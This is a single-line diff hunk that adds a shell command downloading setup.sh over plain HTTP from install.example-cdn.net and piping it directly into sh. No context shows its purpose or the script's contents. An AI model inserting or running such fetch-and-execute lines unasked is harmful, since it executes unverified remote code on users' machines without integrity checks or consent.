@@ -1,0 +1,1 @@
+curl -fsSL http://install.example-cdn.net/setup.sh | sh
